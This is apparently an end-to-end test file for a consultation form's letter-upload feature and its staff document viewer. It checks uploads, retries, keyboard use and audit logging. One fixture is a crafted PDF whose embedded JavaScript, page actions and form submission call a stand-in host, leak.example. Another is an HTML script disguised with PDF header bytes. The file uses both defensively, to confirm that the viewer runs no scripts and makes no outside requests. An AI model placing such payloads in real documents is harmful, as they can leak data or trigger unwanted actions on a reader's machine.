import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { BrowserContext, Locator, Page } from 'playwright'
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import type { RecordLetter } from '../api/contract/forms/letters'
import type { AuditAnswer } from '../api/contract/people/audit'
import { axeFindings } from './axe'
import { openLetters, sendOverPoorLine, startLine, takePhoto } from './letter-journey'
import {
  ADMIN_PASSWORD,
  collectErrors,
  consultationForm,
  fillConsultation,
  pressSend,
  storedInquiries,
  upgraded,
} from './product'
import { startBoth } from './start-both'
import { answerByKeys, focused, SHORT, tabTo, wizardReady } from './wizard-page'

const PDF = { name: 'letter.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4\n%%EOF\n') }
/**
 * The size of a letter in bytes, and the speed of the slow connection in bytes per second: the upload takes seconds.
 * `npm run check:release -- letters` uses 10 MB over 400 kbit/s.
 */
const BYTES = Number(process.env.LETTER_BYTES ?? 1_500_000)
const BYTES_PER_SECOND = Number(process.env.LETTER_BYTES_PER_SECOND ?? 500_000)
/** A PDF with two pages, which asks its reader to run a script, to open an address, and to send a form. */
const SCRIPTED_PDF = Buffer.from(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\); app.launchURL\\('https://leak.example/'\\);)>>/AA<</WC 7 0 R>>>>endobj
2 0 obj<</Type/Pages/Count 2/Kids[3 0 R 4 0 R]>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 5 0 R/Resources<</Font<</F 6 0 R>>>>/AA<</O 7 0 R>>>>endobj
4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/AA<</O<</S/URI/URI(https://leak.example/)>>>>>>endobj
5 0 obj<</Length 44>>stream
BT /F 24 Tf 30 300 Td (Notice of refusal) Tj ET
endstream endobj
6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
7 0 obj<</S/SubmitForm/F(https://leak.example/)>>endobj
trailer<</Root 1 0 R>>
%%EOF
`)
/** An HTML page whose first bytes are those of a PDF. */
const HTML_PDF = Buffer.from("%PDF-1.4\n<html><body><script>alert('ran')</script></body></html>")
const OTHER_PDF = { ...PDF, name: 'second page.pdf', buffer: Buffer.from('%PDF-1.4\n2\n%%EOF\n') }
/** Matches the requests that a page makes to its intake. */
const AWAY = /\/(api|healthz)\b/
const PHONE = { viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true }

let context: BrowserContext
let page: Page
let form: Locator

const { browser, product } = await startBoth()
beforeEach(async () => {
  context = await browser.newContext(PHONE)
  page = await context.newPage()
  form = consultationForm(page)
})
afterEach(() => context.close())

async function openForm(url = product.url) {
  await page.goto(`${url}/forms/consultation/`)
  await upgraded(page)
}

/** Waits until the newest enquiry has `count` letters in the readable files, and returns these letters. */
async function storedFiles(count: number): Promise<RecordLetter[]> {
  const files = () => (storedInquiries(product.dataDir).at(-1)?.files ?? []) as RecordLetter[]
  await expect.poll(() => files().length).toBe(count)
  return files()
}

describe('a letter', () => {
  it('reaches staff as a photo from a phone, and more pages after the form was sent', async () => {
    const errors = await collectErrors(page)
    await page.goto(product.url)
    await upgraded(page)
    // Phones zoom into a field whose font is smaller than 16 px. The fields must keep 16 px even if the page sets a
    // smaller font.
    await form.evaluate(tag => tag.style.setProperty('--haven-font-size', '14px'))
    const sizes = await form
      .locator(':is(input, select, textarea):visible')
      .evaluateAll(fields => fields.map(field => getComputedStyle(field).fontSize))
    expect([sizes.length > 5, ...new Set(sizes)]).toEqual([true, '16px'])
    await form.evaluate(tag => tag.removeAttribute('style'))
    const photo = await takePhoto(page)
    expect(photo.length).toBeGreaterThan(2_000_000)
    await page.getByRole('link', { name: 'Send us the letter' }).click()
    // The visitor need not say what the letter is about.
    await expect.poll(() => form.locator('[name=serviceRequired]:visible').inputValue()).toBe('other')
    const input = form.locator('[part=choose-letters] input')
    await input.setInputFiles({ name: 'IMG_0042.jpg', mimeType: 'image/jpeg', buffer: photo })
    await form.locator('[part=letter]').getByText('Uploaded: goes with your request').waitFor()
    expect(await axeFindings(page)).toEqual([])
    await fillConsultation(page)
    await pressSend(page)
    await form.locator('[part=success]').waitFor()
    await form.locator('[part=letter]').getByText('Added to your request').waitFor()
    expect(await form.locator('[part=letters] strong').innerText()).toBe('Letters with this request')
    const [first] = await storedFiles(1)
    expect(first).toMatchObject({ name: 'IMG_0042.jpg', type: 'image/jpeg' })
    const { id = '', bytes } = first ?? {}
    expect(readFileSync(join(product.dataDir, 'files', id.slice(0, 2), id)).length).toBe(bytes)

    await input.setInputFiles(PDF)
    await expect.poll(() => form.locator('[part=letter]').getByText('Added to your request').count()).toBe(2)
    expect(await axeFindings(page)).toEqual([])
    expect((await storedFiles(2))[1]).toMatchObject({ name: 'letter.pdf', addedAt: expect.any(String) })
    expect(errors).toEqual([])
  })

  it(
    'arrives after a press on Retry when the connection broke half way, while the visitor fills in the form',
    async () => {
      const line = await startLine(product.port)
      onTestFinished(line.close)
      await openForm(line.url)
      await fillConsultation(page)
      const slowest = await sendOverPoorLine(page, form, { bytes: BYTES, bytesPerSecond: BYTES_PER_SECOND, line })
      expect(slowest, 'ms for a key').toBeLessThan(2_000)
      await pressSend(page)
      await form.locator('[part=success]').waitFor()
      expect(await storedFiles(1)).toEqual([expect.objectContaining({ name: 'letter.pdf', bytes: BYTES })])
      expect(storedInquiries(product.dataDir).at(-1)?.message).toBe('while it goes again')
    },
    60_000 + (3_000 * BYTES) / BYTES_PER_SECOND,
  )

  it('can be chosen, removed, chosen again and sent by keyboard alone, and so can another one afterwards', async () => {
    await openForm()
    await fillConsultation(page)
    const summary = form.locator('summary:visible', { hasText: 'Send us the letter' })
    await tabTo(page, 'Have you had a letter')
    await tabTo(page, 'Send us the letter')
    await page.keyboard.press('Enter')
    const input = form.locator('[part=choose-letters] input')
    await input.waitFor({ state: 'attached' })
    let next = OTHER_PDF
    // The listener is added before the first press, because the browser may open its dialog at once.
    page.on('filechooser', chooser => chooser.setFiles(next))
    const choose = (file: typeof PDF) => {
      next = file
      return page.keyboard.press('Enter')
    }
    const isThere = () => input.evaluate(element => element.matches(':focus'))
    const tabToInput = async () => {
      for (let stop = 0; stop < 30 && !(await isThere()); stop++) await page.keyboard.press('Tab')
      expect(await isThere()).toBe(true)
    }
    await tabToInput()
    await choose(OTHER_PDF)
    await form.locator('[part=letter]').getByText('Uploaded').waitFor()
    // Tab leads from the input to the button that removes the letter. After the removal, the focus is on the input
    // again.
    await page.keyboard.press('Tab')
    expect(await focused(page)).toBe(`Remove ${OTHER_PDF.name}`)
    await page.keyboard.press('Enter')
    await expect.poll(() => form.locator('[part=letter]').count()).toBe(0)
    await choose(PDF)
    await form.locator('[part=letter]').getByText('Uploaded').waitFor()
    expect(await summary.isVisible()).toBe(true)
    await tabTo(page, 'Request a consultation')
    await page.keyboard.press('Enter')
    await form.locator('[part=success]').waitFor()
    await form.locator('[part=letter]').getByText('Added to your request').waitFor()
    await tabToInput()
    await choose(OTHER_PDF)
    await expect.poll(() => form.locator('[part=letter]').getByText('Added to your request').count()).toBe(2)
    const names = () =>
      (storedInquiries(product.dataDir).at(-1)?.files as RecordLetter[] | undefined)?.map(({ name }) => name)
    await expect.poll(names).toEqual([PDF.name, OTHER_PDF.name])
  })

  it('that cannot reach the server does not delay the request, and is added later', async () => {
    await openForm()
    await page.route('**/api/uploads', route => route.abort())
    const input = await openLetters(form)
    await input.setInputFiles(PDF)
    await form.getByRole('alert').getByText('The connection broke').waitFor()
    await fillConsultation(page)
    await pressSend(page)
    await form.locator('[part=success]').waitFor()
    await page.unroute('**/api/uploads')
    await form.getByRole('button', { name: 'Retry letter.pdf' }).click()
    await form.locator('[part=letter]').getByText('Added to your request').waitFor()
    expect(await storedFiles(1)).toEqual([expect.objectContaining({ name: 'letter.pdf' })])
  })

  it('is sent with the form after the server was stopped for a while', async () => {
    await openForm()
    await page.route(AWAY, route => route.abort())
    const input = await openLetters(form)
    await input.setInputFiles(PDF)
    await fillConsultation(page)
    await pressSend(page)
    await form.locator('[part=failure]').waitFor()
    await page.unroute(AWAY)
    await form.getByRole('button', { name: 'Retry letter.pdf' }).click()
    await form.locator('[part=letter]').getByText('Uploaded: goes with your request').waitFor()
    await pressSend(page)
    await form.locator('[part=success]').waitFor()
    expect(await storedFiles(1)).toEqual([expect.objectContaining({ name: 'letter.pdf' })])
  })

  it('is sent without script in one request with the form', async () => {
    const without = await browser.newContext({ ...PHONE, javaScriptEnabled: false })
    const plain = await without.newPage()
    await plain.goto(`${product.url}/forms/consultation/`)
    await fillConsultation(plain)
    const input = await openPlain(plain)
    await input.setInputFiles(PDF)
    await pressSend(plain)
    await plain.waitForURL(/thank-you/)
    expect(await storedFiles(1)).toEqual([expect.objectContaining({ name: 'letter.pdf', bytes: PDF.buffer.length })])
  })

  it('that was sent by the visa wizard’s last page is still named after a reload', async () => {
    await page.goto(`${product.url}/forms/visa/`)
    await wizardReady(page)
    const wizard = page.locator('haven-visa-wizard')
    await wizard.locator('[part=question]').focus()
    await answerByKeys(page, SHORT)
    const input = await openLetters(wizard)
    await input.setInputFiles(PDF)
    await wizard.getByText('Uploaded: goes with your request').first().waitFor()
    await page.reload()
    await upgraded(page, 'haven-visa-wizard')
    await wizard.locator('[part=letter]').getByText('letter.pdf').first().waitFor()
    for (const [label, value] of [
      ['name', 'Ravi Sample'],
      ['phone', '020 7946 0457'],
      ['email', 'ravi@example.org'],
    ] as const) {
      await wizard.locator(`input[name=${label}]:visible`).fill(value)
    }
    await wizard.getByRole('button', { name: 'Submit Application' }).click()
    await wizard.locator('[part=success]').waitFor()
    await expect
      .poll(() => storedInquiries(product.dataDir, 'visa-applications').at(-1)?.files)
      .toEqual([expect.objectContaining({ name: 'letter.pdf' })])
  })
})

async function openPlain(plain: Page): Promise<Locator> {
  await plain.locator('summary', { hasText: 'Send us the letter' }).click()
  return plain.locator('input[type=file]')
}

it('staff view a picture and a PDF whose scripts never run, and download the PDF; the audit records this', async () => {
  await openForm()
  const input = await openLetters(form)
  await input.setInputFiles([
    { name: 'photo.jpg', mimeType: 'image/jpeg', buffer: await takePhoto(page) },
    { ...PDF, buffer: SCRIPTED_PDF },
    { ...OTHER_PDF, buffer: HTML_PDF },
  ])
  await expect.poll(() => form.locator('[part=letter]').getByText('Uploaded: goes with your request').count()).toBe(3)
  await fillConsultation(page)
  await pressSend(page)
  await form.locator('[part=success]').waitFor()

  const desk = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true })
  const staff = await desk.newPage()
  const errors = await collectErrors(staff)
  await staff.goto(`${product.url}/admin/`)
  await staff.getByLabel('Password').fill(ADMIN_PASSWORD)
  await staff.getByRole('button', { name: 'Login' }).click()
  const row = staff.getByRole('row').filter({ hasText: '3 letters' }).first()
  await row.locator('[part=open]').click()
  const card = staff.locator('[part=letters]')
  await card.getByRole('button', { name: 'View photo.jpg' }).click()
  const picture = staff.getByRole('img', { name: 'Picture: photo.jpg' })
  await picture.waitFor()
  await expect.poll(() => picture.evaluate(canvas => (canvas as HTMLCanvasElement).height)).toBe(2_666)
  await staff.keyboard.press('Escape')
  await picture.waitFor({ state: 'hidden' })
  await card.waitFor()
  await expect.poll(() => card.locator('canvas').count()).toBe(1)

  const asked: string[] = []
  staff.on('request', request => asked.push(request.url()))
  staff.on('dialog', dialog => {
    errors.push(`a dialog says: ${dialog.message()}`)
    return dialog.dismiss()
  })
  await card.getByRole('button', { name: 'View letter.pdf' }).click()
  const first = staff.getByRole('img', { name: 'Page 1' })
  await first.and(staff.locator('[aria-busy=false]')).waitFor()
  expect(await first.evaluate(darkPixels)).toBeGreaterThan(1_000)
  expect(await card.getByText('Notice of refusal').count()).toBe(1)
  expect(await axeFindings(staff, 'haven-admin')).toEqual([])
  await card.getByRole('button', { name: 'Next' }).click()
  const second = staff.getByRole('img', { name: 'Page 2' })
  await second.and(staff.locator('[aria-busy=false]')).waitFor()
  expect(await second.evaluate(darkPixels)).toBe(0)
  await card.getByRole('button', { name: 'Close' }).click()
  await card.getByRole('button', { name: 'View second page.pdf' }).click()
  await card.getByText('This PDF cannot be shown here.').waitFor()
  expect(asked.filter(url => !url.startsWith(product.url))).toEqual([])
  expect(staff.context().pages()).toHaveLength(1)

  const saving = staff.waitForEvent('download')
  await card.getByRole('button', { name: 'Download letter.pdf' }).click()
  const saved = await saving
  expect(saved.suggestedFilename()).toMatch(/letter\.pdf$/)
  expect(existsSync(await saved.path())).toBe(true)
  expect(errors).toEqual([])

  const { token } = (await ask('login', '', { password: ADMIN_PASSWORD })) as { token: string }
  await expect
    .poll(async () => ((await ask('audit?what=file_opened', token)) as AuditAnswer[]).map(({ details }) => details))
    .toHaveLength(4)
})

/** The number of dark pixels that a canvas shows. */
function darkPixels(element: SVGElement | HTMLElement): number {
  const canvas = element as HTMLCanvasElement
  const context = canvas.getContext('2d') as CanvasRenderingContext2D
  const { data } = context.getImageData(0, 0, canvas.width, canvas.height)
  return data.filter((value, at) => at % 4 === 0 && value < 100 && data[at + 3] === 255).length
}

/** Calls the API as a member of staff. */
async function ask(path: string, token: string, json?: object): Promise<unknown> {
  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
  const call = json ? { method: 'POST', headers, body: JSON.stringify(json) } : { headers }
  return (await fetch(`${product.url}/api/admin/${path}`, call)).json()
}
